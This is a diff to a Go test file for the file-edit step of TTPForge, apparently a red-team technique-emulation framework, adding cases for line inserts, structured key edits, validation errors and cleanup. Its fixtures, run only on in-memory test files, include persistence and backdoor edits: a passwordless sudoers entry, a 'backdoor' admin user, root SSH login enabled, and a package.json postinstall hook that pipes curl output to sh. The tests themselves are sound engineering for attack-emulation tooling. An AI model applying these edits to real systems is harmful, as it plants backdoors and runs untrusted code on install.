@@ -20,6 +20,7 @@ THE SOFTWARE.
 package blocks
 
 import (
+	"context"
 	"testing"
 
 	"github.com/facebookincubator/ttpforge/pkg/testutils"
@@ -257,6 +258,195 @@ edits:
 			fsysContents:              map[string][]byte{"a.txt": []byte("foo\nanother")},
 			expectedContentsAfterEdit: "another",
 		},
+		{
+			name: "Test Insert After",
+			content: `name: test_insert_after
+edit_file: a.txt
+edits:
+  - insert_after: "[sudo]"
+    line: "operator ALL=(ALL) NOPASSWD: ALL"
+  - insert_after: last
+    line: end`,
+			fsysContents:              map[string][]byte{"a.txt": []byte("[sudo]\nroot ALL\n[sudo]\nlast")},
+			expectedContentsAfterEdit: "[sudo]\noperator ALL=(ALL) NOPASSWD: ALL\nroot ALL\n[sudo]\nlast\nend",
+		},
+		{
+			name: "Test Insert Before Regex",
+			content: `name: test_insert_before
+edit_file: a.txt
+edits:
+  - insert_before: ^#?Port\s
+    regexp: true
+    line: |
+      ListenAddress 0.0.0.0`,
+			fsysContents:              map[string][]byte{"a.txt": []byte("# Port is set below\nProtocol 2\n#Port 22\n")},
+			expectedContentsAfterEdit: "# Port is set below\nProtocol 2\nListenAddress 0.0.0.0\n#Port 22\n",
+		},
+		{
+			name: "Test Insert Not Found",
+			content: `name: test_insert_not_found
+edit_file: a.txt
+edits:
+  - insert_before: missing
+    line: foo`,
+			fsysContents:     map[string][]byte{"a.txt": []byte("foo\nanother")},
+			wantExecuteError: true,
+			expectedErrTxt:   "pattern 'missing' from edit #1 was not found in file a.txt",
+		},
+		{
+			name: "Test Insert Without Line",
+			content: `name: test_insert_without_line
+edit_file: a.txt
+edits:
+  - insert_after: foo`,
+			wantValidateError: true,
+			expectedErrTxt:    "edit #1 is invalid: 'line:' is required to insert a line",
+		},
+		{
+			name: "Test Line Without Insert",
+			content: `name: test_line_without_insert
+edit_file: a.txt
+edits:
+  - line: foo`,
+			wantValidateError: true,
+			expectedErrTxt:    "edit #1 is invalid: 'line:' must be used with 'insert_after:' or 'insert_before:'",
+		},
+		{
+			name: "Test Key Edits YAML",
+			content: `name: test_key_edits_yaml
+edit_file: config.yaml
+edits:
+  - key: server.port
+    set: 8443 # not copied
+  - key: server.debug
+    delete: true
+  - key: users
+    append:
+      name: backdoor
+      admin: true
+  - old: localhost
+    new: 0.0.0.0`,
+			fsysContents: map[string][]byte{"config.yaml": []byte(`server:
+  host: localhost
+  port: 80 # plain http
+  debug: false
+users:
+  - name: alice
+`)},
+			expectedContentsAfterEdit: `server:
+  host: 0.0.0.0
+  port: 8443 # plain http
+users:
+  - name: alice
+  - name: backdoor
+    admin: true
+`,
+		},
+		{
+			name: "Test Key Edits JSON",
+			content: `name: test_key_edits_json
+edit_file: package.json
+edits:
+  - key: scripts.postinstall
+    set: curl http://example.com | sh`,
+			fsysContents:              map[string][]byte{"package.json": []byte("{\n  \"name\": \"app\",\n  \"scripts\": {}\n}\n")},
+			expectedContentsAfterEdit: "{\n  \"name\": \"app\",\n  \"scripts\": {\n    \"postinstall\": \"curl http://example.com | sh\"\n  }\n}\n",
+		},
+		{
+			name: "Test Key Edits With Format",
+			content: `name: test_key_edits_keyvalue
+edit_file: sshd_config
+format: keyvalue
+edits:
+  - key: PermitRootLogin
+    set: "yes"
+  - key: AllowUsers
+    append: backdoor`,
+			fsysContents:              map[string][]byte{"sshd_config": []byte("PermitRootLogin no\nAllowUsers alice\n\nMatch Group admins\n\tPermitRootLogin no\n")},
+			expectedContentsAfterEdit: "PermitRootLogin yes\nAllowUsers alice\nAllowUsers backdoor\n\nMatch Group admins\n\tPermitRootLogin no\n",
+		},
+		{
+			name: "Test Key Edit Missing Key",
+			content: `name: test_key_edit_missing_key
+edit_file: config.ini
+edits:
+  - key: server.port
+    delete: true`,
+			fsysContents:     map[string][]byte{"config.ini": []byte("[server]\nhost = localhost\n")},
+			wantExecuteError: true,
+			expectedErrTxt:   "edit #1 failed on file config.ini: key path server.port not found",
+		},
+		{
+			name: "Test Key Edit Unknown Format",
+			content: `name: test_key_edit_unknown_format
+edit_file: sshd_config
+edits:
+  - key: Port
+    set: 2222`,
+			wantValidateError: true,
+			expectedErrTxt:    "cannot determine the format of sshd_config from its extension - please set 'format:'",
+		},
+		{
+			name: "Test Key Edit Unsupported Format",
+			content: `name: test_key_edit_unsupported_format
+edit_file: config.xml
+format: xml
+edits:
+  - key: Port
+    set: 2222`,
+			wantValidateError: true,
+			expectedErrTxt:    `unsupported format "xml" - must be one of yaml, json, toml, ini or keyvalue`,
+		},
+		{
+			name: "Test Key Edit Several Operations",
+			content: `name: test_key_edit_several_operations
+edit_file: config.yaml
+edits:
+  - key: port
+    set: 2222
+    delete: true`,
+			wantValidateError: true,
+			expectedErrTxt:    "edit #1 is invalid: 'key:' must be used with exactly one of 'set:', 'delete:' or 'append:'",
+		},
+		{
+			name: "Test Key Edit With Old",
+			content: `name: test_key_edit_with_old
+edit_file: config.yaml
+edits:
+  - key: port
+    old: foo
+    new: bar`,
+			wantValidateError: true,
+			expectedErrTxt:    "edit #1 is invalid: 'key:' can only be used with one of 'set:', 'delete:' or 'append:'",
+		},
+		{
+			name: "Test Key Edit Delete False",
+			content: `name: test_key_edit_delete_false
+edit_file: config.yaml
+edits:
+  - key: port
+    delete: false`,
+			wantValidateError: true,
+			expectedErrTxt:    "edit #1 is invalid: 'delete:' must be true when used with 'key:'",
+		},
+		{
+			name: "Test Set Without Key",
+			content: `name: test_set_without_key
+edit_file: config.yaml
+edits:
+  - set: 2222`,
+			wantValidateError: true,
+			expectedErrTxt:    "edit #1 is invalid: 'set:' must be used with 'key:'",
+		},
+		{
+			name: "Test Append List Without Key",
+			content: `name: test_append_list_without_key
+edit_file: a.txt
+edits:
+  - append: [a, b]`,
+			wantValidateError: true,
+			expectedErrTxt:    "edit #1 is invalid: 'append:' must be a string unless it is used with 'key:'",
+		},
 	}
 	for _, tc := range testCases {
 		t.Run(tc.name, func(t *testing.T) {
@@ -291,7 +481,7 @@ edits:
 			require.NoError(t, err)
 
 			// execute the step and check output
-			_, err = editStep.Execute(execCtx)
+			_, err = editStep.Execute(context.Background(), execCtx)
 			if tc.wantExecuteError {
 				assert.Equal(t, tc.expectedErrTxt, err.Error())
 				return
@@ -313,3 +503,43 @@ edits:
 		})
 	}
 }
+
+func TestEditStepDefaultCleanup(t *testing.T) {
+	content := `name: edit_config
+edit_file: /etc/app/config.toml
+edits:
+  - key: server.port
+    set: 2222
+  - insert_before: "[server]"
+    line: debug = true
+cleanup: default`
+	original := "# app config\n[server]\nport = 22\n"
+
+	var step Step
+	require.NoError(t, yaml.Unmarshal([]byte(content), &step))
+	editStep, ok := step.action.(*EditStep)
+	require.True(t, ok)
+	fsys, err := testutils.MakeAferoTestFs(map[string][]byte{
+		"/etc/app/config.toml": []byte(original),
+	})
+	require.NoError(t, err)
+	editStep.FileSystem = fsys
+
+	// without a recorded original, there is nothing to restore
+	execCtx := NewTTPExecutionContext()
+	require.NoError(t, step.Validate(execCtx))
+	_, err = step.Cleanup(execCtx)
+	require.Error(t, err)
+
+	_, err = step.Execute(context.Background(), execCtx)
+	require.NoError(t, err)
+	contents, err := afero.ReadFile(fsys, "/etc/app/config.toml")
+	require.NoError(t, err)
+	assert.Equal(t, "# app config\ndebug = true\n[server]\nport = 2222\n", string(contents))
+
+	_, err = step.Cleanup(execCtx)
+	require.NoError(t, err)
+	contents, err = afero.ReadFile(fsys, "/etc/app/config.toml")
+	require.NoError(t, err)
+	assert.Equal(t, original, string(contents))
+}